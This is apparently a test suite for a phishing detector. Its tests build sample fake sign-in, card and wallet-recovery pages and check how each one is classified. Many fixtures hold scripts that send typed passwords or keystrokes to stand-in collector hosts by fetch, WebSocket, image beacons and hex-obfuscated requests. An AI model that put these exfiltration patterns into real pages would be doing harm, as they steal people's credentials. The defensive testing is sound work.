/** Pages that ask for a password, a card or the words of a wallet: what is stolen, and harmless pages that resemble it. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { SHORT_MAX, START_MAX } from '#inspect/judge/posing.ts'
import { useInspector } from '#inspect/testing/inspector.ts'
import { WORDS_MIN } from './fields.ts'
import { ARTICLE_MIN } from './forms.ts'
import { READ_SOURCE_MAX } from './sending.ts'

const { inspect } = useInspector()

/** The worst finding about a form. */
function found(page: string): string | undefined {
  const { findings, obstacle } = inspect(Buffer.from(page))
  assert.equal(obstacle, null)
  const ids = ['FalseLogin', 'Phishing', 'CredentialForm', 'SavedLogin']
  return ids.find((id) => findings.some((finding) => finding.id === `Docvet.Html.${id}`))
}

const KIT = 'https://secure-docs.example/collect.php'
const page = (title: string, body: string, script = ''): string =>
  `<!DOCTYPE html><html><head><title>${title}</title></head><body>${body}<script>${script}</script></body></html>`
const FIELDS = '<input type="email" name="mail"><input type="password" name="pin">'
const form = (action: string, fields = FIELDS): string => `<form action="${action}" method="post">${fields}</form>`
const asking = (field: string): string => page('Sign in', form(KIT, `<input name="a">${field}`))
const wallet = (fields: string): string => page('Wallet', form(KIT, fields))
const words = (count: number): string =>
  Array.from({ length: count }, (_, index) => `<input name="w${index + 1}">`).join('')
const sending = (script: string): string =>
  page('Mail', '<input id="pin" type="password"><button onclick="go()">Open</button>', `function go(){${script}}`)
const adding = (named: string, count: number): string =>
  `for(let i=1;i<=${count};i++){const n=document.createElement("input");n.${named};document.forms[0].append(n)}`
const VALUE = 'document.getElementById("pin").value'

suite('a page that poses as a sign-in page', () => {
  const pages: Record<string, string> = {
    'the names of two services of mail': page('Sign in', `<div>Gmail</div><div>Microsoft</div>${form(KIT)}`),
    'the name of a company as the title': page('Microsoft 365 - Sign in', form(KIT)),
    'in two words': page('Sign in', `<h1>Office 365</h1>${form(KIT)}`),
    'in a heading': page('Document', `<h2 class="x">DocuSign</h2>${form(KIT)}`),
    'as the text of a logo': page('Sign in', `<img src="a.png" alt="PayPal">${form(KIT)}`),
    'where the page begins': page('Sign in', `<div>Microsoft</div>${form(KIT)}`),
    'a full mailbox': page('Mail', `<p>Your mailbox is almost full.</p>${form(KIT)}`),
    'an expired session': page('Mail', `<p>Your session has expired.</p>${form(KIT)}`),
    'a server of the company where anybody can publish': page('Microsoft', form('https://login.azurewebsites.net/a')),
    'the name of the company before the address': page('Microsoft', form('https://login.live.com@kit.example/a')),
    'words of a wallet': wallet('<textarea placeholder="Enter your 12-word recovery phrase"></textarea>'),
    'fields for words that a script adds': page(
      'Ledger',
      `<p>Enter the 24 words of your Secret Recovery Phrase.</p>${form(KIT, '<div></div>')}`,
      'for(let i=0;i<24;i++)document.forms[0].append(document.createElement("input"))',
    ),
    'a full mailbox, in Spanish': page('Correo', `<p>Su buzón está al 98 % de su capacidad.</p>${form(KIT)}`),
    'a fee for a parcel, in German': page(
      'Paket',
      `<p>Ihre Sendung wird zurückgehalten.</p>${form(KIT, '<input placeholder="Kartennummer"><input placeholder="CVV">')}`,
    ),
    'a card that was stopped, in Japanese': page(
      '重要',
      `<p>カードのご利用を一時的に停止しております。</p>${form(KIT)}`,
    ),
    'fields for words that a script adds and numbers': page(
      'Wallet',
      `<p>Restore it with your Secret Recovery Phrase.</p>${form(KIT, '<div></div>')}`,
      adding('placeholder=i+"."', WORDS_MIN),
    ),
    'the words of a wallet, in French': wallet('<textarea placeholder="Phrase secrète de récupération"></textarea>'),
    'an unusual sign-in, in Italian': page('Banca', `<p>Abbiamo rilevato un accesso anomalo.</p>${form(KIT)}`),
    'a full mailbox, in Polish': page('Poczta', `<p>Twoja skrzynka jest pełna.</p>${form(KIT)}`),
    'a field for each word of a wallet': wallet(`<p>Secret Recovery Phrase</p>${words(WORDS_MIN)}`),
  }
  for (const [name, content] of Object.entries(pages)) test(name, () => assert.equal(found(content), 'FalseLogin'))
})

suite('a page that sends a password by', () => {
  const ways: Record<string, [string, string]> = {
    'a request': ['CredentialForm', sending(`fetch("${KIT}",{method:"POST",body:${VALUE}})`)],
    'a socket': ['CredentialForm', sending(`new WebSocket("wss://kit.example/s").send(${VALUE})`)],
    'a picture': ['FalseLogin', sending(`new Image().src="${KIT}?p="+${VALUE}`)],
    'a picture, over a variable': [
      'FalseLogin',
      sending(`var v=${VALUE};const sent=btoa(v);var i=new Image();i.src="${KIT}?p="+sent`),
    ],
    'a beacon': ['FalseLogin', sending(`navigator.sendBeacon("${KIT}",JSON.stringify([${VALUE}]))`)],
    'a request without an answer': [
      'FalseLogin',
      sending(`fetch("${KIT}",{method:"POST",mode:"no-cors",body:${VALUE}})`),
    ],
    'a service for mail': [
      'Phishing',
      sending(`fetch("https://api.mail.example/api/v1.0/email/send",{method:"POST",body:${VALUE}})`),
    ],
    'a picture of the page': [
      'FalseLogin',
      sending(`var i=document.createElement("img");i.src="${KIT}?p="+encodeURIComponent(${VALUE})`),
    ],
    'a form whose address is decoded': [
      'Phishing',
      page(
        'Mail',
        '<form id="f"><input type="password"></form>',
        `document.getElementById("f").action=atob("${btoa(KIT)}")`,
      ),
    ],
    'a picture, from text that can be edited': [
      'FalseLogin',
      page(
        'Webmail',
        '<p>Mailbox 98% full.</p><table><tr><td>Password<td><div contenteditable id=b></div></table>',
        `z.onclick=function(){(new Image)["s"+"rc"]="//203.0.113.66/px.gif?c="+btoa(b.innerText)}`,
      ),
    ],
    'a socket, from a field that is drawn': [
      'Phishing',
      page(
        'Documents',
        '<canvas id="v"></canvas>',
        `const x=v.getContext("2d");x.fillText("Password",44,200);const w=new WebSocket(atob("${btoa('wss://kit.example/s')}"));addEventListener("keydown",e=>w.send(e.key))`,
      ),
    ],
    'a request, and leads to a company': [
      'FalseLogin',
      sending(`fetch("${KIT}",{method:"POST",body:${VALUE}});location.href="https://outlook.office.com/"`),
    ],
    'a request, and leads to the sign-in of a company': [
      'CredentialForm',
      sending(
        `fetch("${KIT}",{method:"POST",body:${VALUE}});location.href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1"`,
      ),
    ],
    'a service for forms': ['Phishing', page('Mail', form('https://api.web3forms.com/submit'))],
    'a survey': ['Phishing', page('Mail', form('https://docs.google.com/forms/d/e/1/formResponse'))],
  }
  for (const [name, [id, content]] of Object.entries(ways)) test(name, () => assert.equal(found(content), id))
})

suite('a field for a password that is', () => {
  const fields: Record<string, string> = {
    'called so by its placeholder': '<input name="b" placeholder="Your e-mail password">',
    'called so in another language': '<input name="b" placeholder="Mot de passe">',
    'called so by a label': '<label for="b">Password</label><input id="b" name="b">',
    'masked by a style': '<style>.m{-webkit-text-security: disc}</style><input class="m" name="b">',
    'a part of the text that can be edited': '<div contenteditable aria-label="Password"></div>',
    'called so in Spanish': '<input name="b" placeholder="Clave de acceso">',
    'called so in Japanese': '<p>パスワード<br><input name="b">',
    'called so by the text before it': '<td>E-Mail-Kennwort:</td><td><input name="b"></td>',
    'the code and number of a card, by the texts before them':
      '<p>カード番号<br><input name="b"></p><p>セキュリティコード<br><input name="c"></p>',
    'the code and number of a card, in Polish': '<input placeholder="Numer karty"><input placeholder="Kod CVV">',
    'the code and number of a card': '<input placeholder="Card number"><input autocomplete="cc-csc">',
  }
  for (const [name, field] of Object.entries(fields))
    test(name, () => assert.equal(found(asking(field)), 'CredentialForm'))

  test('made as a whole by a script', () => {
    const made = `${adding('placeholder="Password"', 1)};document.forms[0].lastChild.type="password"`
    assert.equal(found(page('Mail', form(KIT, ''), made.replace('n.', 'n.type="password";n.'))), 'CredentialForm')
  })

  test('made one by a script', () => {
    const script = 'document.getElementById("b").type="pass"+"word"'
    assert.equal(found(page('Mail', form(KIT, '<input id="b" name="b">'), script)), 'CredentialForm')
  })
})

suite('a harmless page', () => {
  const pages: Record<string, [string | undefined, string]> = {
    'of a company that was saved': ['SavedLogin', page('Microsoft', form('https://login.live.com/post.srf'))],
    'of a company whose messages are encrypted': ['SavedLogin', page('Cisco', form('https://res.cisco.com/open'))],
    'of a program that others run': [
      'CredentialForm',
      page('Citrix Gateway', form('https://vpn.contoso.example/login')),
    ],
    'that offers to sign in with a company': [
      'CredentialForm',
      page('Log in', `<h1>Continue with Google</h1>${form('https://contoso.example/login')}`),
    ],
    'that lists the companies whose accounts it takes': [
      'CredentialForm',
      page(
        'Log in',
        `<h1>Contoso</h1>${form('https://contoso.example/login')}<a href="/g">Google</a> <a href="/m">Microsoft</a>`,
      ),
    ],
    'that counts its readers': [undefined, page('App', form('/login'), `new Image().src="${KIT}?u="+location.href`)],
    'that counts those who search it': [
      undefined,
      page('Search', form('/search', '<input name="q">'), `new Image().src="${KIT}?q="+document.forms[0].q.value`),
    ],
    'that adds fewer numbered fields than a wallet has words': [
      undefined,
      page(
        'Wallet',
        `<p>Never enter your Secret Recovery Phrase.</p>${form(KIT, '')}`,
        adding('placeholder=i+"."', WORDS_MIN - 1),
      ),
    ],
    'with a captcha beside a search': [
      undefined,
      page('Search', form(KIT, '<p>Security code<br><input name="q"></p>')),
    ],
    'with a survey': [
      undefined,
      page('Survey', form('https://docs.google.com/forms/d/e/1/formResponse', '<input name="q">')),
    ],
    'with a generator of passwords': [
      undefined,
      page('Tool', '<input type="password" id="p">', 'p.value=Math.random()'),
    ],
    'that takes cards for its own site': [
      undefined,
      page('Shop', form('/pay', '<input name="cardnumber"><input name="cvc">')),
    ],
    'about the words of wallets': [
      undefined,
      page('Help', `<p>Never enter your recovery phrase.</p>${form(KIT, '<input name="q">')}`),
    ],
    'with a game that is drawn and asks for a password': [
      undefined,
      page('Game', '<canvas id="v"></canvas>', 'v.getContext("2d").fillText("Password",1,1);onkeydown=e=>check(e.key)'),
    ],
    'with a crossword': [undefined, page('Game', form(KIT, words(WORDS_MIN)))],
    'with fewer words than a wallet has': [undefined, wallet(`<p>Secret Recovery Phrase</p>${words(WORDS_MIN - 1)}`)],
  }
  for (const [name, [id, content]] of Object.entries(pages)) test(name, () => assert.equal(found(content), id))

  const text = (length: number): string => 'Read this. '.repeat(Math.ceil(length / 11)).slice(0, length)
  test('whose text is an article', () => {
    const article = (length: number): string => page('Microsoft', `<p>${text(length)}</p>${form(KIT)}`)
    assert.equal(found(article(ARTICLE_MIN / 2)), 'FalseLogin')
    assert.equal(found(article(ARTICLE_MIN)), 'CredentialForm')
  })

  test('with a library whose names mean several things', () => {
    const counting = (length: number): string =>
      sending(`let v=${VALUE};${'a();'.repeat(length)}navigator.sendBeacon("${KIT}",v)`)
    assert.equal(found(counting(10)), 'FalseLogin')
    assert.equal(found(counting(READ_SOURCE_MAX / 4)), 'CredentialForm')
  })

  test('that names a company further on, or has more to read', () => {
    const named = (before: number, after: number): string =>
      page('x', `<p>${text(before)} Microsoft</p>${form(KIT)}<p>${text(after)}</p>`)
    assert.equal(found(named(START_MAX / 2, 0)), 'FalseLogin')
    assert.equal(found(named(START_MAX, 0)), 'CredentialForm')
    assert.equal(found(named(START_MAX / 2, SHORT_MAX)), 'CredentialForm')
  })
})

test('a page of a web archive', () => {
  const site = 'https://www.recipes.example'
  const noted = `Snapshot-Content-Location: ${site}/tart/`
  const archive = (head: string, action: string, body = '<h1>Plum tart</h1><p>200 g butter, 6 plums.</p>'): string =>
    `From: <Saved by Blink>\r\n${head}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset="utf-8"\r\nContent-Location: ${site}/tart/\r\n\r\n${page('Tart', `${body}${form(action)}`)}\r\n--b--\r\n`
  assert.equal(found(archive(noted, `${site}/login`)), 'SavedLogin')
  const quoted = archive(`Subject: a\r\n${noted}`, `${site}/login`)
    .replace('utf-8"', 'utf-8"\r\nContent-Transfer-Encoding: quoted-printable')
    .replace(/<!DOCTYPE.*/, (text) => text.replaceAll('=', '=3D'))
  assert.equal(found(quoted), 'SavedLogin')
  assert.equal(found(archive(`Subject: Tart\r\n${noted}`, `${site}/login`)), 'SavedLogin')
  assert.equal(found(archive(noted, KIT)), 'CredentialForm')
  assert.equal(found(archive(noted, `https://www.recipes.example.kit.example/login`)), 'CredentialForm')
  assert.equal(found(archive('Subject: Tart', `${site}/login`)), 'CredentialForm')
  assert.equal(found(archive(`To: a@b.example\r\n${noted}`, `${site}/login`)), 'CredentialForm')
  assert.equal(found(archive(noted, `${site}/login`, '<h1>Microsoft</h1>')), 'FalseLogin')
  assert.equal(found(archive(noted, `${site}/login`, '<p>Your mailbox is full.</p>')), 'FalseLogin')
})

suite('a script that nobody can read, and that takes what is entered', () => {
  const hexed = (text: string): string =>
    `'${[...text].map((each) => `\\x${each.charCodeAt(0).toString(16)}`).join('')}'`
  const script = (words: readonly string[], code: string): string =>
    `var _0x1f2e=[${words.map(hexed)}],_0x3c=function(_0x9){return _0x1f2e[_0x9-0x0]};${code}`
  const words = ['getElementById', 'word', 'value', 'POST', KIT, 'open', 'send', 'querySelector', 'input']
  const send = (read: string): string =>
    `document[_0x3c('0x0')]('go')['onclick']=function(){var q=new XMLHttpRequest();q[_0x3c('0x5')](_0x3c('0x3'),_0x3c('0x4'));q[_0x3c('0x6')](${read})}`
  const shown = (code: string): string =>
    page(
      'Sign in',
      '<p>Your session has expired.</p><input type="password" id="word"><button id="go">Go</button>',
      code,
    )
  const reads: Readonly<Record<string, string>> = {
    'by its name': "document[_0x3c('0x0')](_0x3c('0x1'))[_0x3c('0x2')]",
    'by its kind': "document[_0x3c('0x7')](_0x3c('0x8'))[_0x3c('0x2')]",
  }
  for (const [way, read] of Object.entries(reads))
    test(way, () => assert.match(found(shown(script(words, send(read)))) ?? '', /FalseLogin|Phishing/))
  test('but not one that only counts readers', () => {
    const counter = send("document['title']").replace("[_0x3c('0x0')]('go')['onclick']", "['onclick']")
    assert.equal(found(shown(script(words, counter))), undefined)
  })
})
